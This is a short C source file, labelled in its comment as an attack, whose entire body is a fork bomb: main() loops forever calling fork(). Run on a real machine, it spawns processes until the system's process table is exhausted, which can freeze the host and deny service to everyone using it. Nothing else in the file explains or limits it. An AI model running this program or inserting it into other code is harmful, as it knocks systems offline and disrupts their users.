/* attack: forks and forks */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
